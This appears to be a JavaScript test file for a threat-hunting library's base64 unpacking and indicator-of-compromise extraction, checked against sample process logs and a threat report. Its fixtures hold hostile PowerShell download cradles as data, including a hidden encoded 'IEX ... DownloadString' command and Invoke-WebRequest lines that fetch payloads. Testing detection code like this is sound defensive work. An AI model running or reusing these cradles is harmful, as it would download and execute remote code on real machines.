// Base64 unpacking and IoC extraction from JS: the Tour's command, a table of command lines, a threat report.
import { test } from "node:test";
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import { loadHuntbook, fixture, root } from "./helpers.mjs";

const hb = await loadHuntbook();

const TOUR = "powershell.exe -encodedCommand SW52b2tlLVdlYlJlcXVlc3QgaHR0cHM6Ly9jb250b3NvLmNvbS9tYWx3YXJlIC1PdXRGaWxlIEM6XG1hbHdhcmUuZXhl";
const DECODED = "Invoke-WebRequest https://contoso.com/malware -OutFile C:\\malware.exe";

test("unpack decodes the Tour's command", () => {
  const r = hb.unpack(TOUR);
  assert.equal(r.text, `powershell.exe -encodedCommand <decoded type='string' name='[None]' index='1' depth='1'>${DECODED}</decoded>`);
  assert.deepEqual(r.notes, []);
  assert.equal(r.truncated, false);
  assert.deepEqual(r.table.columns, ["reference", "original_string", "file_name", "file_type", "input_bytes",
    "decoded_string", "encoding_type", "file_hashes", "md5", "sha1", "sha256", "printable_bytes"]);
  const row = r.table.row(0);
  assert.equal(row.reference, "1");
  assert.equal(row.original_string, TOUR.split(" ")[2]);
  assert.equal(row.decoded_string, DECODED);
  assert.equal(row.encoding_type, "utf-8");
  assert.equal(row.file_name, "unknown");
  assert.equal(row.file_type, null);
  assert.equal(row.md5, "5845a06d7f52b1818a088e889df95c77");
  assert.equal(row.sha256, "7054dcebb2f74492c06f4ba89cac8e7e99b44e1a6029e0ad403aab9bb7503d8c");
  // Binary cells are hex: in rows without spaces, in HTML as spaced bytes.
  assert.equal(row.input_bytes, Buffer.from(DECODED).toString("hex"));
  assert.ok(/<td class="huntbook-long"( title="49 6e [0-9a-f ]+")?>49 6e 76 6f 6b 65 2d 57/.test(r.table.toHTML()), "input_bytes shows as hex in HTML");
  assert.equal(r.table.dtypes.file_hashes, "dynamic");
});

test("unpack: UTF-16 PowerShell, zip in base64, options in both spellings, limits said", () => {
  const script = "IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a.ps1')";
  const enc = Buffer.from(script, "utf16le").toString("base64");
  const r = hb.unpack(`powershell -nop -w hidden -enc ${enc}`);
  assert.equal(r.table.row(0).encoding_type, "utf-16");
  assert.equal(r.table.row(0).decoded_string, script);
  // msticpy's utf16=False: not detected (and not NUL-laced text).
  const off = hb.unpack(`powershell -enc ${enc}`, { utf16: false });
  assert.notEqual(off.table.row(0).encoding_type, "utf-16");
  assert.ok(!off.text.includes("\0"));
  // base64 of base64: depth 2; max_depth / maxDepth stop it and say so.
  const twice = Buffer.from(Buffer.from(DECODED).toString("base64")).toString("base64");
  assert.equal(hb.unpack(twice).table.numRows, 2);
  assert.equal(hb.unpack(twice).table.row(1).reference, "1.1");
  for (const opts of [{ max_depth: 1 }, { maxDepth: 1 }]) {
    const cut = hb.unpack(twice, opts);
    assert.equal(cut.table.numRows, 1);
    assert.equal(cut.truncated, true);
    assert.match(cut.notes.join("\n"), /depth/);
  }
  assert.throws(() => hb.unpack(TOUR, { maxDepht: 3 }), /^Error: unpack: unknown option 'maxDepht' \(did you mean 'max_depth'\?\)\. Options are: max_depth/);
  assert.throws(() => hb.unpack(TOUR, { max_depth: -1 }), /unpack: option 'max_depth': expected a whole number ≥ 0, got -1/);
  assert.throws(() => hb.unpack(TOUR, { max_depth: 0 }), /max_depth must be at least 1/);
  assert.throws(() => hb.unpack(null), /text must be a string, got null/);
  // Garbage never throws.
  for (const s of ["", "====", "A".repeat(5000), "\u0000\uffff".repeat(100), "QUJD\r\n".repeat(200)]) hb.unpack(s);
});

test("unpackTable and extractIocsTable over the Tour's process table (22,979 command lines)", () => {
  const { tables } = hb.readTables(fixture("tour/asn_processes_on_host.la.json"));
  const procs = tables[0];
  assert.equal(procs.numRows, 22979);
  const un = hb.unpackTable(procs, "CommandLine");
  assert.deepEqual(un.columns.slice(12), ["src_index", "CommandLine", "full_decoded_string"]);
  const rows = un.toRows();
  assert.deepEqual(rows.map((r) => r.src_index), [968, 7452, 9163]);
  const enc = "-Noninteractive -Noprofile -Command \"Invoke-Expression Get-Process; Invoke-WebRequest -Uri http://wh401k.org/getps\"";
  assert.equal(rows[0].decoded_string, enc);
  assert.equal(rows[1].decoded_string, enc);
  assert.equal(rows[0].full_decoded_string, `.\\powershell  -enc <decoded type='string' name='[None]' index='1' depth='1'>${enc}</decoded>`);
  assert.ok(rows[2].decoded_string.startsWith('<?xml version="1.0" encoding="UTF-8"?><request protocol="3.0"'));
  assert.throws(() => hb.unpackTable(procs, "CommandLin"), /did you mean 'CommandLine'/);

  const iocs = hb.extractIocsTable(procs, ["CommandLine"]);
  assert.deepEqual(iocs.columns, ["IoCType", "Observable", "SourceIndex", "Input", "Refanged"]);
  assert.equal(iocs.numRows, 4753);
  const counts = Object.fromEntries(iocs.valueCounts("IoCType").toRows().map((r) => [r.IoCType, r.count]));
  assert.deepEqual(counts, { email: 3054, ipv4: 898, dns: 791, url: 8, md5_hash: 2 });
  assert.deepEqual(iocs.row(0), { IoCType: "ipv4", Observable: "127.0.0.1", SourceIndex: 5, Input: "ping  127.0.0.1 -n 15 ", Refanged: "127.0.0.1" });
  const urls = [...new Set(iocs.filter("IoCType", "url").toRows().map((r) => r.Observable))].sort();
  assert.deepEqual(urls, ["http://server/file.sct", "http://wh401k.org/getps", "http://www.401k.com/upload?pass=34592389",
    "https://clients2.google.com/cr/report"]);
  // Paths only when asked; the column may be given as one name or in the options.
  const paths = hb.extractIocsTable(procs, { columns: "CommandLine", include_paths: true });
  assert.equal(paths.numRows, 4753 + 27905 + 8653);
  assert.equal(hb.extractIocsTable(procs, "CommandLine", { iocTypes: ["url"] }).numRows, 8);
  // A non-text column is skipped with a note; an unknown one is an error naming the columns.
  const skipped = hb.extractIocsTable(procs, ["EventID"]);
  assert.equal(skipped.numRows, 0);
  assert.deepEqual(skipped.notes, ["column 'EventID' is int, not text: skipped"]);
  assert.throws(() => hb.extractIocsTable(procs, ["Commandline"]), /did you mean 'CommandLine'/);
  assert.throws(() => hb.extractIocsTable(procs, []), /name the text columns/);
});

test("extractIocs: every type, msticpy's rules and the fixes", () => {
  const r = hb.extractIocs(
    "Beacon to hxxps://evil[.]com/a?u=https%3A%2F%2Fnext.example.org%2Fx from 10.1.2.3 (not 1.2.3.4.5 or v1.2.3.4 or 10.0.0.300);" +
      " mail bob[at]evil[.]com; run xyz.ps1; fe80::1ff:fe23:4567:890a; md5 d41d8cd98f00b204e9800998ecf8427e",
    { include_paths: false },
  );
  assert.deepEqual(r, {
    url: ["https://evil.com/a?u=https%3A%2F%2Fnext.example.org%2Fx", "https://next.example.org/x"],
    dns: ["evil.com", "next.example.org"],
    ipv4: ["10.1.2.3"],
    email: ["bob@evil.com"],
    ipv6: ["fe80::1ff:fe23:4567:890a"],
    md5_hash: ["d41d8cd98f00b204e9800998ecf8427e"],
  });
  const list = hb.extractIocList("see hxxp://a.example[.]com/x", { ioc_types: ["url"] });
  assert.deepEqual(list, [{ type: "url", observable: "hxxp://a.example[.]com/x", refanged: "http://a.example.com/x" }]);
  assert.deepEqual(hb.extractIocs("hxxp://a.example[.]com/x", { defanged: false, include_paths: false }), {});
  assert.deepEqual(hb.extractIocs(null), {});
  // Custom types (msticpy's add_ioc_type), regex as text or RegExp, per call.
  const custom = hb.extractIocs("ticket INC-20231 and INC-4", { custom: [{ name: "ticket", regex: /INC-\d{3,}/, priority: 0 }] });
  assert.deepEqual(custom, { ticket: ["INC-20231"] });
  assert.deepEqual(hb.extractIocs("INC-20231"), {});
  assert.throws(() => hb.extractIocs("x", { ioc_types: ["urls"] }), /unknown IoC type 'urls'.*did you mean 'url'/);
  assert.throws(() => hb.extractIocs("x", { custom: [{ name: "bad", regex: "(" }] }), /custom IoC type 'bad': invalid regex/);
  assert.throws(() => hb.extractIocs("x", { iocTypes: "url", paths: true }), /unknown option 'paths'/);
  // The table of one text.
  const t = hb.extractIocsTable("hxxp://a.example[.]com/x", { ioc_types: ["url", "dns"] });
  assert.deepEqual(t.toRows().map((x) => [x.IoCType, x.Observable, x.Refanged, x.SourceIndex]), [
    ["url", "hxxp://a.example[.]com/x", "http://a.example.com/x", 0],
    ["dns", "a.example[.]com", "a.example.com", 0],
  ]);
});

test("extractIocs: the Tour's threat report", () => {
  const xml = fs.readFileSync(path.join(root, "site", "data", "threat-report.xml"), "utf8");
  // What the Tour reads: the text nodes, one per line.
  const text = xml.replace(/<!--[\s\S]*?-->/g, "").replace(/<[^>]*>/g, "\n")
    .replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&amp;/g, "&");
  const r = hb.extractIocs(text, { include_paths: false });
  assert.deepEqual(r.url, [
    "https://northwind-payroll.com/sso/login.aspx?ref=q3",
    "https://t.wingtiptoys-mail.com/c?r=https%3A%2F%2Ffiles.fabrikam-share.net%2Fd%2FQ3_payroll.zip",
    "https://files.fabrikam-share.net/d/Q3_payroll.zip",
    "http://198.51.100.23:8080/gate.php",
    "ftp://203.0.113.45/pub/rc.exe",
    "https://files.fabrikam-share.net/upload",
    "https://northwind-payroll.com/sso/login.aspx?ref=q3&lang=en",
  ]);
  assert.deepEqual(r.ipv4, ["198.51.100.23", "203.0.113.45", "192.0.2.147"]);
  assert.deepEqual(r.email, ["payroll-notice@northwind-payroll.com", "hr-updates@northwind-payroll.com", "exfil.drop@tailspintoys-backup.com"]);
  assert.deepEqual(r.sha256_hash, ["3b7e1f9a5c2d8e4f6a0b1c3d5e7f9a2b4c6d8e0f1a3b5c7d9e2f4a6b8c0d1e3f"]);
  assert.equal(r.windows_path, undefined);
});

test("the functions need init and a DataFrame", () => {
  assert.throws(() => hb.unpackTable({ _frame: {} }, "x"), /df must be a huntbook DataFrame/);
  assert.throws(() => hb.extractIocsTable(42, ["x"]), /df must be a huntbook DataFrame/);
});
